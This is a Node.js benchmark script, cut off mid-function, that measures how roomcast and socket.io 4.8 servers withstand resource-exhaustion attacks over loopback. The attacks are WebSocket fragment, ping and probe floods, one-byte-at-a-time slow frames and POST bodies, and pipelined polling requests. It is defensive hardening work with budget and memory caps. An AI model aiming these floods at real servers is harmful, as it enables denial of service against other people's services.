// Resource-exhaustion attacks, roomcast vs socket.io 4.8, measured the same way (issue 11). For each attack and each
// server: the server runs in a child process (bench/attack-server.mjs: same options and app as bench/server.mjs),
// the attacker opens real Engine.IO sessions to it over loopback (WebSocket upgrade with masked client frames, or
// long-polling), a baseline is taken (heap and RSS after GC), then the attack runs while the server's heapUsed and
// RSS are sampled every 250 ms (RSS also read from /proc, which answers even when the server's event loop is stuck).
//
//   node bench/attacks.mjs [--only ws-fragments,ws-ping-flood] [--impl roomcast|socketio|both]
//                          [--budget-mb 30] [--seconds 40] [--roomcast-dir <checkout or dist dir>]
//                          [--rss-cap-mb 2000] [--heap-mb 1536] [--tail-s 3] [--out-dir bench/results]
//                          [--merge] [--no-save] [--list]
//   node bench/attacks.mjs --render [--out-dir dir]     re-prints attacks.md from attacks.json
//
// Every load is bounded: an attack stops once it has sent --budget-mb (all its connections together) or after
// --seconds, or when the server has closed every attacking connection, or when the server's RSS passes
// --rss-cap-mb (the server is then killed by PID and the row says so), or when the server dies. The server runs
// with --max-old-space-size=<--heap-mb> (0: Node's default) so that a server that would run out of heap dies early
// ("died (OOM)"). After the attack the connections are kept open for --tail-s seconds more (the server may still
// be working through bytes in its socket buffers), then memory is taken after GC with the connections still open
// ("held"), then WebSocket clients that never read drain what the server sent them (3 s at most) to find its close
// frame. Sizes are decimal (1 MB = 10^6 bytes). `--list` names the attacks; `--roomcast-dir` measures another build
// (e.g. a worktree of an older commit, for "before" figures: `git worktree add ../base HEAD`, npm ci, tsc there).
//
// Results: a markdown table (attack | roomcast | socket.io) on stdout, bench/results/attacks.json (every sample) and
// attacks.md. --merge replaces only the rows measured in this run in an existing attacks.json. Loopback only.
import { execFileSync, fork } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { cpus, loadavg, totalmem } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { clientFrame, HttpConnection, WS_KEY } from "./raw-client.mjs";

const here = dirname(fileURLToPath(import.meta.url));

// ---- flags --------------------------------------------------------------------------------------------------------

const args = process.argv.slice(2);
const KNOWN = new Set(["only", "impl", "budget-mb", "seconds", "roomcast-dir", "rss-cap-mb", "heap-mb", "tail-s", "out-dir", "sample-ms"]);
const SWITCHES = new Set(["merge", "no-save", "render", "list", "help"]);
for (let i = 0; i < args.length; i++) {
  const name = args[i].replace(/^--/, "");
  if (!args[i].startsWith("--") || (!KNOWN.has(name) && !SWITCHES.has(name))) usage(`unknown argument ${args[i]}`);
  if (KNOWN.has(name)) {
    if (args[i + 1] === undefined) usage(`--${name} needs a value`);
    i++;
  }
}
function flag(name, fallback) {
  const i = args.indexOf(`--${name}`);
  return i >= 0 ? args[i + 1] : fallback;
}
function usage(error) {
  if (error) console.error(error);
  console.error(readFileSync(fileURLToPath(import.meta.url), "utf8").split("\n").slice(6, 11).map((l) => l.slice(3)).join("\n"));
  process.exit(error ? 2 : 0);
}
if (args.includes("--help")) usage();

const BUDGET_BYTES = Number(flag("budget-mb", "30")) * 1e6;
const SECONDS = Number(flag("seconds", "40"));
const RSS_CAP = Number(flag("rss-cap-mb", "2000")) * 1e6;
const HEAP_MB = Number(flag("heap-mb", "1536"));
const TAIL_MS = Number(flag("tail-s", "3")) * 1000;
const SAMPLE_MS = Number(flag("sample-ms", "250"));
const DRAIN_MS = 3000;
const OUT_DIR = resolve(flag("out-dir", join(here, "results")));
const IMPL_FLAG = flag("impl", "both");
const IMPLS = IMPL_FLAG === "both" ? ["roomcast", "socketio"] : [IMPL_FLAG];
for (const n of [BUDGET_BYTES, SECONDS, RSS_CAP, HEAP_MB, TAIL_MS, SAMPLE_MS]) if (!(n >= 0)) usage("numeric flags must be ≥ 0");
if (!IMPLS.every((i) => i === "roomcast" || i === "socketio")) usage("--impl: roomcast, socketio or both");
const LABEL = { roomcast: "roomcast", socketio: "socket.io" };

/** A checkout (its dist/ is used) or a dist directory itself (a `tsc --outDir` build): must hold server/index.js. */
function distDirOf(path) {
  const p = resolve(path);
  if (existsSync(join(p, "server", "index.js"))) return p;
  if (existsSync(join(p, "dist", "server", "index.js"))) return join(p, "dist");
  return undefined;
}

// ---- small helpers ------------------------------------------------------------------------------------------------

const now = () => performance.now();
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
// sizes in decimal units (1 MB = 10^6 bytes), as the budget flags
const MB = (b) => (b === undefined || b === null ? "?" : b >= 1e9 ? `${(b / 1e9).toFixed(2)} GB` : `${(b / 1e6).toFixed(b >= 1e8 ? 0 : 1)} MB`);
const signedMB = (b) => (b === undefined || b === null ? "?" : `${b >= 0 ? "+" : "−"}${MB(Math.abs(b))}`);
const sec = (ms) => (ms === undefined || ms === null ? "?" : `${(ms / 1000).toFixed(ms < 10_000 ? 2 : 1)} s`);
const count = (n) => (n >= 1e6 ? `${(n / 1e6).toFixed(2)} M` : n.toLocaleString("en-US"));
const ENGINE_PATH = "/socket.io/";
/** engine.io's default maxHttpBufferSize (both servers run with it): also the WebSocket maxPayload. */
const MAX_HTTP_BUFFER = 1e6;

function withTimeout(promise, ms, what) {
  let timer;
  return Promise.race([
    promise.finally(() => clearTimeout(timer)),
    new Promise((_, reject) => (timer = setTimeout(() => reject(new Error(`${what}: no answer in ${ms} ms`)), ms))),
  ]);
}

/** VmRSS of a process from /proc (bytes), undefined once it is gone. */
function procRss(pid) {
  try {
    const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "latin1"));
    return m ? Number(m[1]) * 1024 : undefined;
  } catch {
    return undefined;
  }
}

// ---- the server child ---------------------------------------------------------------------------------------------

function startServer(impl, distDir) {
  const execArgv = ["--expose-gc"];
  if (HEAP_MB > 0) execArgv.push(`--max-old-space-size=${HEAP_MB}`);
  const argv = impl === "roomcast" ? [impl, distDir] : [impl];
  const proc = fork(join(here, "attack-server.mjs"), argv, { execArgv, stdio: ["ignore", "inherit", "pipe", "ipc"] });
  let stderr = "";
  proc.stderr.setEncoding("utf8");
  proc.stderr.on("data", (d) => {
    stderr = (stderr + d).slice(-32_768);
  });
  let seq = 0;
  const pending = new Map();
  const exited = new Promise((resolve) => {
    proc.once("exit", (code, signal) => {
      for (const p of pending.values()) p.reject(new Error("server exited"));
      pending.clear();
      resolve({ code, signal, at: now() });
    });
  });
  const ready = new Promise((resolve, reject) => {
    exited.then(() => reject(new Error(`attack-server exited before it was ready:\n${stderr}`)));
    proc.on("message", (msg) => {
      if (msg.ready) return resolve(msg);
      const p = pending.get(msg.id);
      if (!p) return; // answered after its timeout
      pending.delete(msg.id);
      if (msg.error) p.reject(new Error(`attack-server: ${msg.error}`));
      else p.resolve(msg.result);
    });
  });
  const server = {
    proc,
    pid: proc.pid,
    ready,
    exited,
    exit: undefined, // { code, signal, at } once it exited
    killedAtCap: undefined, // { at, rss } when the RSS cap killed it
    get alive() {
      return server.exit === undefined;
    },
    get stderr() {
      return stderr;
    },
    call(op, params = {}, timeoutMs = 10_000) {
      if (!server.alive || !proc.connected) return Promise.reject(new Error("server exited"));
      const id = ++seq;
      const p = new Promise((resolve, reject) => pending.set(id, { resolve, reject }));
      proc.send({ id, op, ...params });
      return withTimeout(p, timeoutMs, op).finally(() => pending.delete(id));
    },
    stopRequested: false,
    async stop() {
      if (!server.alive) return;
      server.stopRequested = true;
      proc.kill("SIGTERM");
      const timer = setTimeout(() => proc.kill("SIGKILL"), 3000);
      await exited;
      clearTimeout(timer);
    },
  };
  exited.then((e) => (server.exit = e));
  return server;
}

/** Why the server exited: "OOM" when V8 ran out of heap, else the code / signal. */
function deathReason(server) {
  if (server.killedAtCap) return "killed at RSS cap";
  if (/heap out of memory|Reached heap limit|Allocation failed/i.test(server.stderr)) return "OOM";
  const { code, signal } = server.exit;
  return signal ? `signal ${signal}` : `exit code ${code}`;
}

/** Samples the server every SAMPLE_MS: RSS from /proc (and the RSS cap), heapUsed and sessions over IPC. */
class Sampler {
  constructor(server, t0) {
    this.server = server;
    this.t0 = t0;
    this.samples = [];
    this.ipcBusy = false;
    this.ipcMisses = 0;
    this.timer = setInterval(() => this.tick(), SAMPLE_MS);
    this.tick();
  }

  tick() {
    const server = this.server;
    if (!server.alive) return;
    const s = { t: Math.round(now() - this.t0) };
    s.rssProc = procRss(server.pid);
    this.samples.push(s);
    if (s.rssProc > RSS_CAP && !server.killedAtCap) {
      server.killedAtCap = { at: now(), rss: s.rssProc };
      server.proc.kill("SIGKILL");
      return;
    }
    if (this.ipcBusy) {
      this.ipcMisses++; // the server did not answer the previous sample yet (busy event loop)
      return;
    }
    this.ipcBusy = true;
    server
      .call("sample", {}, 30_000)
      .then((m) => Object.assign(s, { heapUsed: m.heapUsed, rss: m.rss, external: m.external, arrayBuffers: m.arrayBuffers, sessions: m.sessions }))
      .catch(() => {})
      .finally(() => (this.ipcBusy = false));
  }

  stop() {
    clearInterval(this.timer);
  }

  peak(key) {
    let max;
    for (const s of this.samples) if (s[key] !== undefined && (max === undefined || s[key] > max)) max = s[key];
    return max;
  }
}

// ---- clients --------------------------------------------------------------------------------------------------------

// Client frames (masked, RFC 6455 §5.3) are raw-client.mjs's `clientFrame(b0, payload)`: `b0` is FIN | opcode.
const FIN = 0x80;
const OP_CONT = 0x0;
const OP_TEXT = 0x1;
const OP_CLOSE = 0x8;
const OP_PING = 0x9;

/**
 * A client TCP connection with what the attacks need to know about the server's side of it: when it closed it
 * (TCP end, reset) and, for a WebSocket, the close frame it sent (code, reason). `pause()` stops reading (a client
 * that never reads); `drain()` reads (and discards) what the server queued, looking for its close frame.
 */
class Conn {
  constructor(port, label) {
    this.label = label;
    this.openedAt = now(); // (for a polling session's connection: a little after its handshake)
    this.t0 = undefined; // set by the runner: event times are reported relative to the attack's start
    this.ours = false; // we started tearing it down: later events are not the server's doing
    this.bytesIn = 0;
    this.endAt = undefined;
    this.closedAt = undefined;
    this.error = undefined; // { code, at }
    this.waiters = new Set();
    this.sock = connect({ host: "127.0.0.1", port, noDelay: true });
    this.sock.on("data", (chunk) => {
      this.bytesIn += chunk.length;
      this.onData(chunk);
      this.wake();
    });
    this.sock.on("end", () => {
      if (!this.ours) this.endAt ??= now();
      this.wake();
    });
    this.sock.on("error", (err) => {
      if (!this.ours) this.error ??= { code: err.code ?? err.message, at: now() };
      this.wake();
    });
    this.sock.on("close", () => {
      if (!this.ours) this.closedAt ??= now();
      this.cancelWrite();
      this.wake();
    });
    this.connected = new Promise((resolve, reject) => {
      this.sock.once("connect", resolve);
      this.sock.once("error", reject);
    });
  }

  wake() {
    for (const w of this.waiters) w();
  }

  /** Resolves once `pred()` is true (checked after every event), rejects after `ms`. */
  until(pred, ms, what) {
    if (pred()) return Promise.resolve();
    return new Promise((resolve, reject) => {
      const done = (err) => {
        clearTimeout(timer);
        this.waiters.delete(check);
        if (err) reject(err);
        else resolve();
      };
      const check = () => {
        if (pred()) done();
        else if (this.sock.destroyed) done(new Error(`${this.label}: connection closed while waiting for ${what}`));
      };
      const timer = setTimeout(() => done(new Error(`${this.label}: no ${what} in ${ms} ms`)), ms);
      this.waiters.add(check);
    });
  }

  /**
   * Writes `buf`; resolves once the kernel took it (undefined), with the write error, or with "stopped" when
   * `cancelWrite()` gives up on it (a server that stopped reading never takes it). One write in flight at a time.
   */
  write(buf) {
    return new Promise((resolve) => {
      if (this.sock.destroyed || !this.sock.writable) return resolve(new Error("not writable"));
      this.pendingWrite = resolve;
      this.sock.write(buf, (err) => {
        this.pendingWrite = undefined;
        resolve(err ?? undefined);
      });
    });
  }

  cancelWrite() {
    const resolve = this.pendingWrite;
    this.pendingWrite = undefined;
    resolve?.("stopped");
  }

  pause() {
    this.sock.pause();
  }

  /** When the server closed (or reset) this connection, undefined while it has not. */
  get serverClosedAt() {
    const times = [this.endAt, this.closedAt, this.error?.at].filter((t) => t !== undefined);
    return times.length ? Math.min(...times) : undefined;
  }

  get serverClosed() {
    return this.serverClosedAt !== undefined;
  }

  /** Reads whatever the server queued for up to `ms` (or until `done()`), then stops. */
  async drain(ms, done = () => false) {
    if (this.sock.destroyed) return;
    this.sock.resume();
    await this.until(() => done() || this.sock.destroyed, ms, "drain").catch(() => {});
  }

  destroy() {
    this.ours = true;
    this.sock.destroy();
  }

  report(t0) {
    const rel = (t) => (t === undefined ? undefined : Math.round(t - t0));
    return {
      label: this.label,
      openedAt: rel(this.openedAt),
      serverClosedAt: rel(this.serverClosedAt),
      endAt: rel(this.endAt),
      closedAt: rel(this.closedAt),
      error: this.error ? { code: this.error.code, at: rel(this.error.at) } : undefined,
      bytesIn: this.bytesIn,
    };
  }
}

/** A WebSocket connection (the upgrade, then frames parsed as they come). */
class WsConn extends Conn {
  constructor(port, path, label) {
    super(port, label);
    this.open = false;
    this.status = undefined;
    this.rest = undefined;
    this.messages = []; // text messages received (kept only while `keepMessages`)
    this.keepMessages = true;
    this.framesIn = 0;
    this.closeFrame = undefined; // { code, reason, at }
    this.sock.write(
      `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
        `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${WS_KEY}\r\n\r\n`,
    );
  }

  onData(chunk) {
    let buf = this.rest ? Buffer.concat([this.rest, chunk]) : chunk;
    this.rest = undefined;
    let off = 0;
    if (!this.open) {
      const end = buf.indexOf("\r\n\r\n");
      if (end < 0) {
        this.rest = Buffer.from(buf);
        return;
      }
      this.status = Number(buf.toString("latin1", 9, 12));
      if (this.status !== 101) return;
      this.open = true;
      off = end + 4;
    }
    while (buf.length - off >= 2) {
      const b0 = buf[off];
      let len = buf[off + 1] & 0x7f;
      let h = 2;
      if (len === 126) {
        if (buf.length - off < 4) break;
        len = buf.readUInt16BE(off + 2);
        h = 4;
      } else if (len === 127) {
        if (buf.length - off < 10) break;
        len = buf.readUInt32BE(off + 2) * 2 ** 32 + buf.readUInt32BE(off + 6);
        h = 10;
      }
      if (buf.length - off < h + len) break;
      const payload = buf.subarray(off + h, off + h + len);
      off += h + len;
      this.framesIn++;
      const opcode = b0 & 0x0f;
      if (opcode === OP_TEXT && this.keepMessages) this.messages.push(payload.toString());
      else if (opcode === OP_CLOSE && this.closeFrame === undefined) {
        this.closeFrame = {
          code: payload.length >= 2 ? payload.readUInt16BE(0) : 1005,
          reason: payload.subarray(2).toString(),
          at: now(),
        };
        // answer it as a client does (same code), so the server can finish its closing handshake
        if (!this.ours && this.sock.writable) this.sock.end(clientFrame(FIN | OP_CLOSE, payload.subarray(0, 2)));
      }
    }
    if (off < buf.length) this.rest = Buffer.from(buf.subarray(off));
  }

  /** Waits for a text message that `pred` accepts (removed from the list). */
  async message(pred, ms = 5000) {
    let found;
    await this.until(
      () => {
        const i = this.messages.findIndex(pred);
        if (i >= 0) found = this.messages.splice(i, 1)[0];
        return found !== undefined;
      },
      ms,
      "expected message",
    );
    return found;
  }

  get serverClosedAt() {
    const times = [super.serverClosedAt, this.closeFrame?.at].filter((t) => t !== undefined);
    return times.length ? Math.min(...times) : undefined;
  }

  report(t0) {
    const r = super.report(t0);
    r.framesIn = this.framesIn;
    r.framesInAttack = this.framesIn - (this.framesAtBegin ?? 0);
    r.neverRead = this.neverRead;
    if (this.closeFrame) r.closeFrame = { code: this.closeFrame.code, reason: this.closeFrame.reason, at: Math.round(this.closeFrame.at - t0) };
    return r;
  }
}

/** A raw HTTP/1.1 connection: records the status line of each response it reads (pipelined ones included). */
class HttpConn extends Conn {
  constructor(port, label) {
    super(port, label);
    this.statuses = new Map(); // status → count
    this.firstResponse = undefined; // { status, at }
    this.carry = "";
  }

  onData(chunk) {
    // status lines only ("HTTP/1.1 200 "); a body is never this shape (the bodies here are engine.io packets)
    const text = this.carry + chunk.toString("latin1");
    for (const m of text.matchAll(/HTTP\/1\.1 (\d{3}) /g)) {
      const status = Number(m[1]);
      this.statuses.set(status, (this.statuses.get(status) ?? 0) + 1);
      this.firstResponse ??= { status, at: now() };
    }
    this.carry = text.slice(-15);
  }

  report(t0) {
    const r = super.report(t0);
    r.responses = Object.fromEntries(this.statuses);
    if (this.firstResponse) r.firstResponse = { status: this.firstResponse.status, at: Math.round(this.firstResponse.at - t0) };
    return r;
  }
}

// ---- Engine.IO / Socket.IO sessions ---------------------------------------------------------------------------------

/** A WebSocket-only session (as socket.io-client with transports: ["websocket"]), connected to namespace "/". */
async function wsSession(port, label) {
  const ws = new WsConn(port, `${ENGINE_PATH}?EIO=4&transport=websocket`, label);
  await ws.connected;
  await ws.message((m) => m.startsWith("0{"));
  ws.sock.write(clientFrame(FIN | OP_TEXT, "40"));
  await ws.message((m) => m.startsWith("40"));
  ws.keepMessages = false;
  return ws;
}

/** A long-polling session connected to namespace "/" (its "40" answer read): returns the sid. */
async function pollingSession(port) {
  const http = new HttpConnection(port);
  try {
    const open = await withTimeout(http.request("GET", `${ENGINE_PATH}?EIO=4&transport=polling`), 5000, "polling handshake");
    const sid = JSON.parse(open.slice(1)).sid;
    const q = `${ENGINE_PATH}?EIO=4&transport=polling&sid=${encodeURIComponent(sid)}`;
    await withTimeout(http.request("POST", q, "40"), 5000, "POST 40");
    const answer = await withTimeout(http.request("GET", q), 5000, "GET 40");
    if (!answer.startsWith("40")) throw new Error(`unexpected answer to 40: ${answer.slice(0, 80)}`);
    return sid;
  } finally {
    http.close();
  }
}

/** A Socket.IO event packet `42["echo","xxx…"]` of exactly `n` bytes (ASCII). */
function echoPacket(n) {
  const head = '42["echo","';
  const tail = '"]';
  return head + "x".repeat(n - head.length - tail.length) + tail;
}

// ---- the attacks ------------------------------------------------------------------------------------------------------
// Each runs `await ctx.begin(conns)` once its sessions are set up (baseline, sampler, clock), then floods until
// `ctx.stopped`. ctx.write(conn, buf, units) writes and counts (bytes against the budget).

const ATTACKS = [
  {
    name: "ws-fragments",
    title: "WebSocket: a text frame with FIN=0, then empty continuation frames (6 bytes each), 1 connection",
    units: "frames",
    async run(ctx) {
      const ws = await wsSession(ctx.port, "ws");
      await ctx.begin([ws]);
      // the start of an event packet, never finished: every further frame is an empty continuation (FIN=0)
      if (!(await ctx.write(ws, clientFrame(OP_TEXT, '42["echo","'), 1))) return;
      const empty = clientFrame(OP_CONT, Buffer.alloc(0)); // 6 bytes: 2 of header, 4 of mask
      const PER_WRITE = 10_000;
      const batch = Buffer.concat(Array(PER_WRITE).fill(empty));
      while (!ctx.stopped) if (!(await ctx.write(ws, batch, PER_WRITE))) return;
    },
  },
  {
    name: "ws-slow-frame",
    title: `WebSocket: a text frame of ${count(MAX_HTTP_BUFFER - 10)} bytes (under maxPayload 1e6) sent one byte per TCP write, 8 connections`,
    units: "writes",
    async run(ctx) {
      const conns = [];
      for (let i = 0; i < 8; i++) conns.push(await wsSession(ctx.port, `ws#${i + 1}`));
      await ctx.begin(conns);
      const frame = clientFrame(FIN | OP_TEXT, echoPacket(MAX_HTTP_BUFFER - 10));
      await Promise.all(
        conns.map(async (ws) => {
          for (let i = 0; i < frame.length && !ctx.stopped; i++) if (!(await ctx.write(ws, frame.subarray(i, i + 1), 1))) return;
          if (!ctx.stopped) ctx.note(`${ws.label}: whole frame sent at ${sec(now() - ctx.t0)}`);
        }),
      );
    },
  },
  {
    name: "ws-ping-flood",
    title: "WebSocket: ping frames (125-byte payload, 131 bytes each) from a client that never reads, 1 connection",
    units: "pings",
    async run(ctx) {
      const ws = await wsSession(ctx.port, "ws");
      ws.pause(); // never reads again (until the drain after the attack)
      await ctx.begin([ws]);
      const ping = clientFrame(FIN | OP_PING, Buffer.alloc(125, 0x70));
      const PER_WRITE = 500;
      const batch = Buffer.concat(Array(PER_WRITE).fill(ping));
      while (!ctx.stopped) if (!(await ctx.write(ws, batch, PER_WRITE))) return;
    },
  },
  {
    name: "poll-slow-body",
    title: `Polling: a POST body of ${count(MAX_HTTP_BUFFER - 10)} bytes (Content-Length set, under maxHttpBufferSize 1e6) sent one byte per TCP write, 8 sessions`,
    units: "writes",
    async run(ctx) {
      const conns = [];
      const sids = [];
      for (let i = 0; i < 8; i++) {
        sids.push(await pollingSession(ctx.port));
        const c = new HttpConn(ctx.port, `post#${i + 1}`);
        await c.connected;
        conns.push(c);
      }
      await ctx.begin(conns);
      const body = Buffer.from(echoPacket(MAX_HTTP_BUFFER - 10));
      await Promise.all(
        conns.map(async (c, i) => {
          const head =
            `POST ${ENGINE_PATH}?EIO=4&transport=polling&sid=${encodeURIComponent(sids[i])} HTTP/1.1\r\nHost: 127.0.0.1\r\n` +
            `Connection: keep-alive\r\nContent-Type: text/plain;charset=UTF-8\r\nContent-Length: ${body.length}\r\n\r\n`;
          if (!(await ctx.write(c, Buffer.from(head), 1))) return;
          for (let j = 0; j < body.length && !ctx.stopped; j++) {
            if (c.firstResponse !== undefined) return; // the server answered before the body was complete
            if (!(await ctx.write(c, body.subarray(j, j + 1), 1))) return;
          }
          if (!ctx.stopped) ctx.note(`${c.label}: whole body sent at ${sec(now() - ctx.t0)}`);
        }),
      );
    },
  },
  {
    name: "poll-pipeline",
    title: "Polling: one keep-alive connection pipelining a long-poll GET, then POSTs (each a small event), never reading a response",
    units: "requests",
    async run(ctx) {
      const sid = await pollingSession(ctx.port);
      const c = new HttpConn(ctx.port, "pipeline");
      await c.connected;
      c.pause();
      await ctx.begin([c]);
      const q = `${ENGINE_PATH}?EIO=4&transport=polling&sid=${encodeURIComponent(sid)}`;
      if (!(await ctx.write(c, Buffer.from(`GET ${q} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: keep-alive\r\n\r\n`), 1))) return;
      const body = echoPacket(16);
      const post =
        `POST ${q} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: keep-alive\r\n` +
        `Content-Type: text/plain;charset=UTF-8\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
      const PER_WRITE = Math.max(1, Math.floor(65_536 / post.length));
      const batch = Buffer.from(post.repeat(PER_WRITE));
      while (!ctx.stopped) if (!(await ctx.write(c, batch, PER_WRITE))) return;
    },
  },
  {
    name: "ws-probe-flood",
    title: "Upgrade probe: a polling session's WebSocket sends `2probe` over and over (never `5`) and never reads",
    units: "probes",
    async run(ctx) {
      const sid = await pollingSession(ctx.port);
      const ws = new WsConn(ctx.port, `${ENGINE_PATH}?EIO=4&transport=websocket&sid=${encodeURIComponent(sid)}`, "probe");
      await ws.connected;
      // one probe answered first: the upgrade path works; from then on the client reads nothing
      ws.sock.write(clientFrame(FIN | OP_TEXT, "2probe"));
      await ws.message((m) => m === "3probe");
      ws.keepMessages = false;
      ws.pause();
      await ctx.begin([ws]);
      const probe = clientFrame(FIN | OP_TEXT, "2probe"); // 12 bytes
      const PER_WRITE = 5000;
      const batch = Buffer.concat(Array(PER_WRITE).fill(probe));
      while (!ctx.stopped) if (!(await ctx.write(ws, batch, PER_WRITE))) return;
    },
  },
  {
    name: "poll-pipeline-handshakes",
    title: "Polling: one keep-alive connection pipelining handshake GETs (each opens a session), never reading a response",
    units: "requests",
    async run(ctx) {
      const c = new HttpConn(ctx.port, "pipeline");
      await c.connected;
      c.pause();
      await ctx.begin([c]);
      const get = `GET ${ENGINE_PATH}?EIO=4&transport=polling HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: keep-alive\r\n\r\n`;
      const PER_WRITE = Math.floor(65_536 / get.length);
      const batch = Buffer.from(get.repeat(PER_WRITE));
      while (!ctx.stopped) if (!(await ctx.write(c, batch, PER_WRITE))) return;
    },
  },
];

// ---- the runner -----------------------------------------------------------------------------------------------------

async function runOne(attack, impl, distDir) {
  const server = startServer(impl, distDir);
  const { port } = await server.ready;
  const info = await server.call("info");
  const row = { attack: attack.name, impl, versions: info.versions, heapLimitMiB: Math.round(info.heapLimit / 2 ** 20) };
  let conns = [];
  let sampler;
  let stopResolve;
  const ctx = {
    port,
    t0: undefined,
    stopped: false,
    stopReason: undefined,
    stopAt: undefined,
    bytes: 0,
    units: 0,
    writes: 0,
    notes: [],
    stopping: new Promise((r) => (stopResolve = r)),
    stop(reason) {
      if (ctx.stopped) return;
      ctx.stopped = true;
      ctx.stopReason = reason;
      ctx.stopAt = now();
      for (const c of conns) c.cancelWrite();
      stopResolve();
    },
    note(text) {
      ctx.notes.push(text);
    },
    async begin(list) {
      conns = list;
      row.baseline = await server.call("memory", {}, 30_000);
      ctx.t0 = now();
      for (const c of conns) {
        c.t0 = ctx.t0;
        c.framesAtBegin = c.framesIn;
        c.neverRead = c.sock.isPaused();
      }
      sampler = new Sampler(server, ctx.t0);
      const timer = setTimeout(() => ctx.stop("time budget"), SECONDS * 1000);
      ctx.stopping.then(() => clearTimeout(timer));
      server.exited.then(() => ctx.stop(server.killedAtCap ? "RSS cap" : "server died"));
      // stop as soon as the server has closed every attacking connection
      const watch = setInterval(() => {
        if (conns.every((c) => c.serverClosed)) ctx.stop("server closed the connection" + (conns.length > 1 ? "s" : ""));
      }, 20);
      ctx.stopping.then(() => clearInterval(watch));
    },
    /** Writes and counts; false when the attack must stop (budget, time, server gone, this connection closed). */
    async write(conn, buf, units) {
      if (ctx.stopped) return false;
      if (conn.serverClosed) return false;
      const err = await conn.write(buf);
      if (err) return false; // an error, or "stopped"
      // a write the kernel takes at once completes without going through the event loop: yield now and then, or
      // timers (the budget, the sampler) and the server's packets would wait for the whole attack
      if (++ctx.writes % 64 === 0) await new Promise(setImmediate);
      ctx.bytes += buf.length;
      ctx.units += units;
      if (ctx.bytes >= BUDGET_BYTES) ctx.stop("byte budget");
      return !ctx.stopped;
    },
  };

  let failure;
  try {
    await withTimeout(attack.run(ctx), (SECONDS + 60) * 1000, attack.name);
    if (ctx.t0 !== undefined && !ctx.stopped) {
      if (conns.every((c) => c.serverClosed)) ctx.stop("server closed the connection" + (conns.length > 1 ? "s" : ""));
      else ctx.stop("attack complete");
    }
  } catch (err) {
    failure = String(err?.message ?? err);
    ctx.stop("failed");
  }

  if (ctx.t0 !== undefined) {
    // the connections stay open a little longer: the server may still be reading what sits in its socket buffers
    const tailEnd = now() + TAIL_MS;
    while (now() < tailEnd && server.alive) await sleep(50);
    if (server.alive) {
      try {
        row.held = await server.call("memory", { settleMs: 0 }, 60_000);
      } catch (err) {
        row.heldError = String(err.message);
      }
    }
    // WebSocket clients that never read: read what the server queued, to find its close frame (an HTTP client
    // that never read does not: reading would let the server take more requests)
    if (server.alive) {
      await Promise.all(
        conns
          .filter((c) => c instanceof WsConn && c.sock.isPaused())
          .map((c) => c.drain(DRAIN_MS, () => c.closeFrame !== undefined || c.serverClosed)),
      );
    }
    sampler.stop();
    await sleep(100); // the last IPC sample
  }
  for (const c of conns) c.destroy();
  if (server.alive) await server.stop();
  else await server.exited;

  const t0 = ctx.t0;
  Object.assign(row, {
    failure,
    budget: { bytes: BUDGET_BYTES, seconds: SECONDS, rssCapMB: RSS_CAP / 1e6, heapMB: HEAP_MB || undefined },
    stopReason: ctx.stopReason,
    durationMs: t0 === undefined ? undefined : Math.round(ctx.stopAt - t0),
    sent: { bytes: ctx.bytes, [attack.units]: ctx.units },
    units: attack.units,
    notes: ctx.notes,
  });
  if (t0 !== undefined) {
    const b = row.baseline;
    const peakRss = Math.max(sampler.peak("rssProc") ?? 0, sampler.peak("rss") ?? 0);
    const peakHeap = sampler.peak("heapUsed");
    Object.assign(row, {
      peak: { heapUsed: peakHeap, rss: peakRss, heapDelta: peakHeap - b.heapUsed, rssDelta: peakRss - b.rss, sessions: sampler.peak("sessions") },
      heldDelta: row.held ? { heapUsed: row.held.heapUsed - b.heapUsed, rss: row.held.rss - b.rss } : undefined,
      conns: conns.map((c) => c.report(t0)),
      ipcMisses: sampler.ipcMisses,
      samples: sampler.samples,
    });
    // did the server die while the attack (or its tail) was on? (a clean exit after our SIGTERM is not a death)
    if (server.killedAtCap) row.died = { reason: "killed at RSS cap", at: Math.round(server.killedAtCap.at - t0), rss: server.killedAtCap.rss };
    else if (!server.stopRequested) {
      row.died = { reason: deathReason(server), at: Math.round(server.exit.at - t0), code: server.exit.code, signal: server.exit.signal };
      const lines = server.stderr.split("\n").filter(Boolean);
      const fatal = lines.find((l) => /FATAL ERROR/.test(l));
      row.stderrTail = fatal ?? lines.slice(-3).join("\n");
    }
    // the attacker's connections drop a moment before the exit is seen: a death is the reason the attack stopped
    if (row.died && row.died.at <= row.durationMs + 1000) row.stopReason = row.died.reason === "killed at RSS cap" ? "RSS cap" : "server died";
    // the sessions the server had at the baseline (the attacker's) and when it first had fewer
    const first = b.sessions;
    const drop = sampler.samples.find((s) => s.sessions !== undefined && s.sessions < first);
    row.sessions = { atBaseline: first, firstDropAt: drop?.t, peak: sampler.peak("sessions") };
  }
  return row;
}

// ---- reporting ------------------------------------------------------------------------------------------------------

/** One table cell: what was sent, how it ended, memory. */
function cell(r) {
  if (!r) return "—";
  if (r.failure && r.durationMs === undefined) return `failed: ${r.failure}`;
  const parts = [];
  const units = r.sent[r.units];
  parts.push(`sent ${MB(r.sent.bytes)} (${count(units)} ${r.units}) in ${sec(r.durationMs)}; stopped: ${r.stopReason}`);
  if (r.died) parts.push(`**${r.died.reason === "OOM" ? "died (OOM)" : r.died.reason}** at ${sec(r.died.at)}`);
  // how the server treated the attacking connections
  const conns = r.conns ?? [];
  const closed = conns.filter((c) => c.serverClosedAt !== undefined && !(r.died && c.serverClosedAt >= r.died.at - 50));
  if (conns.length === 1) {
    const c = conns[0];
    if (closed.length) parts.push(`closed by server at ${sec(c.serverClosedAt)}${closeDetail(c)}`);
    else parts.push(`not closed by server${c.closeFrame ? closeDetail(c) : ""}${c.firstResponse ? responsesDetail(c) : ""}`);
    if (c.neverRead && c.framesInAttack !== undefined && !r.died && (c.framesInAttack > 0 || !c.error))
